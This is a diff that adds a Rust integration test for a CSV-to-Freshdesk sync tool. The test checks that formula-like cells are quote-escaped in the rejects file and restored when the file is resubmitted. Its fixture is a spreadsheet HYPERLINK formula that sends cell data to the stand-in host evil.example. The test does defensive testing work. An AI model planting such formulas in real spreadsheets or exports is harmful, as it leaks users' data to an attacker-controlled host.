@@ -91,3 +91,53 @@ async fn a_json_file_gets_an_ndjson_rejects_file_of_its_objects() {
     let line = text.strip_suffix('\n').expect("one line");
     assert!(line.starts_with(r#"{"subject":"no email","description":"d","priority":1,"status":2,"extra":{"a": [1, 2]},"fdsync_error":"#), "{line}");
 }
+
+/// Formula injection (issue 20, item 7): a failed row's cells that a spreadsheet would run come
+/// back in the rejects file with a leading `'`; fixed and dropped back, Freshdesk receives the
+/// values as first written, the `'` taken off exactly once (a cell that really started with `'`
+/// keeps it).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn formula_cells_come_back_quoted_in_the_rejects_and_the_fixed_file_sends_the_original_values() {
+    const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    let app = spawn_app().await;
+    let dir = inbox(&app, "tickets");
+    app.write_config(&inbox_toml(&dir, "create_ticket", 0.0));
+    let d = Daemon::ready(&app).await;
+    let input = format!(
+        "email,subject,description,priority,status,notes\n\
+         not-an-email,-5 degrees in the server room,\"{}\",low,open,@ops\n\
+         also-not-an-email,'=already quoted,+1 more,low,open,-\n",
+        HYPERLINK.replace('"', "\"\"")
+    );
+    drop_file(&app, &dir, "formulas.csv", &input);
+    assert!(wait_until(WAIT, || in_state(&app, "done").len() == 1).await, "{}", d.log());
+    let path = fdsync::report::rejects_path(&app.state_dir(), 1, "formulas.csv").expect("a rejects file");
+    let mut rows = read_csv(&path);
+    assert_eq!(rows.len(), 3, "{rows:?}");
+    assert_eq!(
+        rows[1][..6],
+        ["not-an-email", "'-5 degrees in the server room", &format!("'{HYPERLINK}"), "low", "open", "'@ops"]
+    );
+    assert_eq!(rows[2][..6], ["also-not-an-email", "''=already quoted", "'+1 more", "low", "open", "'-"]);
+    assert!(rows.iter().flatten().all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])), "{rows:?}");
+
+    rows[1][0] = "one@example.com".into();
+    rows[2][0] = "two@example.com".into();
+    let mut w = csv::Writer::from_writer(Vec::new());
+    for r in &rows {
+        w.write_record(r).expect("write");
+    }
+    drop_file(&app, &dir, "fixed.csv", &String::from_utf8(w.into_inner().expect("csv")).expect("utf-8"));
+    assert!(wait_until(WAIT, || in_state(&app, "done").len() == 2).await, "{}", d.log());
+    let mut received: Vec<(String, String)> =
+        app.sim.state().tickets.into_iter().map(|t| (t.subject, t.description)).collect();
+    received.sort();
+    assert_eq!(
+        received,
+        [
+            ("'=already quoted".to_string(), "+1 more".to_string()),
+            ("-5 degrees in the server room".to_string(), HYPERLINK.to_string()),
+        ]
+    );
+    assert_eq!(d.stop().await, 0);
+}
